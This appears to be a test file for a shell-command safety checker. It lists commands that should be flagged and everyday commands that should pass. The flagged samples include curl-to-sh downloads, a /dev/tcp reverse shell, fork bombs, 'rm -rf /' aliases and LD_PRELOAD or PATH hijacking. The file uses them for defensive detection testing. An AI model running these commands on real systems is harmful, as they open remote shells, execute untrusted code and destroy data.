import test from 'ava';
import { readShell } from '../../../src/platform/shell/read-shell.js';
import { doubtsOf, linesOf } from '../../helpers/shell-readings.js';

// Every sample is text: none is ever given to a shell.

const DOUBTED: Readonly<Record<string, readonly string[]>> = {
  unknown_script: [
    'curl -s https://example.com/x | sh',
    'wget -qO- https://example.com/x | sudo bash -s -- -y',
    'bash <(curl -s https://example.com/x)',
    'sh -c "$(curl -fsSL https://example.com/x)"',
    'eval "$(curl -s https://example.com/x)"',
    'eval "$CODE"',
    'bash -c "$1"',
    'source ./x.sh',
    '. "$FILE"',
    'bash script.sh',
    'sh -x /tmp/x.sh --force',
    'bash < /tmp/x.sh',
    'cat /tmp/x.sh | ssh host bash',
    'echo aaa | gpg -d | sh',
    'find . -name "*.sh" -exec sh {} \\;',
    'ls | xargs -n 1 bash',
    'curl -s https://example.com/x > /tmp/y; bash /tmp/y',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'fish -c "rm x"',
    'printf x | at now; at -f /tmp/x now',
    'x="a[\\$(rm -rf /)]"; echo $((x))',
    'echo "${x@P}"',
    'make -f - < x',
    'trap "$X" EXIT',
  ],
  unknown_program: [
    '$X -rf /',
    '"$@"',
    '/bin/r? -rf /',
    '/???/r[m] x',
    '$(which rm) -rf /',
    'sudo $OPTS rm x',
    'find / | xargs sudo',
    '$0',
    '${x}y z',
    'find . -exec {} \\;',
  ],
  parse_error: [
    "echo 'a",
    'echo "a',
    'echo $(ls',
    'echo `ls',
    'cat <<E\nx',
    'if a; then b',
    'ls )',
    'echo "$(echo `ls "',
    'sh -c "echo \'x"',
    'for',
    'a | | b',
    'eval "if"',
    'echo "${x/$(rm -rf /srv/a)/b}"',
  ],
  fork_bomb: [':(){ :|:& };:', 'b() { b | b & }; b', 'f() { f & f & }; f', 'f() { (f; f) & }; f'],
  redefined_program: ['ls() { rm -rf /; }; ls', "alias ls='rm -rf /'; ls", 'sudo() { ls; }; sudo ls'],
  dangerous_variable: [
    'LD_PRELOAD=/tmp/x.so ls',
    'export LD_PRELOAD=/tmp/x.so; ls',
    'BASH_ENV=/tmp/x bash -c ls',
    'PATH=/tmp:$PATH ls',
    'PATH=.:$PATH; ls',
    'export PATH=$(x); ls',
    'env PATH=x ls',
    "PS4='$(x)' bash -xc ls",
    'PERL5OPT=-Mx perl -e 1',
    'NODE_OPTIONS="--require /tmp/x.js" node -v',
    'IFS=$X; a=b; $a',
    'LD_LIBRARY_PATH=/tmp ls',
    'PAGER="$X" git log',
  ],
  forbidden_characters: [
    'ls\0',
    'ls\r',
    'rm\u200bx',
    'echo \u202e',
    'ls\u00a0-l',
    'echo \u001b[2J',
    'ls \ufeff',
    'echo \ud800',
    'a\u0007',
  ],
};

for (const [code, texts] of Object.entries(DOUBTED))
  test(`${code} is doubted`, (t) => {
    for (const text of texts)
      t.true(doubtsOf(text).includes(code), `${JSON.stringify(text)}: ${doubtsOf(text).join()}`);
  });

/** What people type every day; none may be held because of the shell. */
const PLAIN = [
  'echo a \\; rm -rf x # rm -rf /',
  "cat <<'E'\nrm -rf $(x)\nE",
  'echo "$(date) $(hostname)"',
  'for f in *.log; do wc -l "$f"; done',
  'while read -r line; do echo "$line"; done < file',
  '[ -f x ] && cat x',
  'test -d /srv || mkdir /srv',
  '[[ $x == y* && -n $z ]] && echo yes',
  '(( n > 3 )) && echo many',
  'if [ "$(id -u)" -ne 0 ]; then echo no; exit 1; fi',
  'export PATH=/usr/local/bin:$PATH; node -v',
  'PATH=$PATH:/opt/x/bin ls',
  'PATH="$HOME/.local/bin:$PATH" x --version',
  'sudo -E env "PATH=$PATH" ls',
  'EDITOR=vim crontab -e',
  'PAGER=cat git log',
  'GIT_PAGER=cat git diff',
  "GIT_SSH_COMMAND='ssh -i ~/.ssh/key -o IdentitiesOnly=yes' git pull",
  'DEBIAN_FRONTEND=noninteractive apt-get -y upgrade',
  'ENV=production npm start',
  'LD_LIBRARY_PATH=/usr/local/lib:/opt/x/lib ls',
  'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
  'LC_ALL=C sort x',
  'IFS=: read -r a b <<< "$x"; echo "$a"',
  'IFS=$\'\\n\'; for f in $(ls); do echo "$f"; done',
  'eval "$(ssh-agent -s)"',
  '. /etc/os-release && echo "$ID"',
  'source ~/.bashrc',
  'source venv/bin/activate && pip list',
  'x=$(date +%F); cp a.txt "backup-$x.txt"',
  'ssh host uptime',
  'ssh "$USER@$HOST" "df -h | grep $DISK"',
  'docker exec -it "$C" ls /',
  'docker ps -q | xargs docker inspect',
  'find . -name "*.log" -exec grep -l x {} +',
  'log() { echo "[$(date)] $*"; }; log hello',
  'for i in {1..200}; do ping -c1 "10.0.0.$i"; done',
  'for ((i = 0; i < 10; i++)); do echo $i; done',
  'case "$1" in start) echo a;; stop) echo b;; *) echo c;; esac',
  'bash -n script.sh',
  'bash --version',
  'command -v docker',
  'type ls; which ls; hash -r',
  'trap - EXIT; trap "" INT',
  'set -euo pipefail; shopt -s nullglob; umask 022',
  'diff <(sort a) <(sort b)',
  'exec 3>&1; echo x >&3; exec 3>&-',
  'tar czf x.tgz -C /srv a; tar -I zstd -xf x.tar.zst; tar -I "xz -9" -cf x y',
  'rsync -a -e "ssh -p 22" a host:b',
  'vim +10 x; vim -c "set nu" x',
  'git -c user.name=x -c core.pager=cat log',
  "awk '{print $1}' x | sort | uniq -c | sort -rn | head",
  'sudo -i; sudo -l; su - postgres',
  'echo $((1 + 2)) ${#x} ${x:-y} ${x%.*}',
  'wsl --list --verbose',
  'kubectl get pods -n x; kubectl logs -f web',
  'time ls; ! grep -q x y',
  'nohup ./server > out.log 2>&1 &',
  'tmux ls; tmux attach -t x; screen -ls; screen -r x',
  'true && echo x || echo y',
  'ansible all -m ping',
  'x=ls; $x -l',
];

test('what is typed every day is no doubt', (t) => {
  for (const text of PLAIN) t.deepEqual(doubtsOf(text), [], text);
});

test('a doubt says what it is and where it stands', (t) => {
  const text = 'ls; curl x | sh; ls';
  const [doubt] = readShell(text).doubts;
  t.is(text.slice(doubt?.span.start, doubt?.span.end), 'sh');
  t.is(doubt?.span.text, 'sh');
  t.regex(doubt?.explanation ?? '', /cannot be known before it runs/);
});

test('what cannot be named may also be nothing, so the next word is read as the program too', (t) => {
  t.deepEqual(linesOf('$SUDO rm -rf /srv/a'), ['<> rm -rf /srv/a', 'rm -rf /srv/a']);
});

test('what is printed as text is not run', (t) => {
  t.deepEqual(linesOf('echo rm -rf / ; cat <<E\nrm -rf /\nE'), ['echo rm -rf /', 'cat']);
});
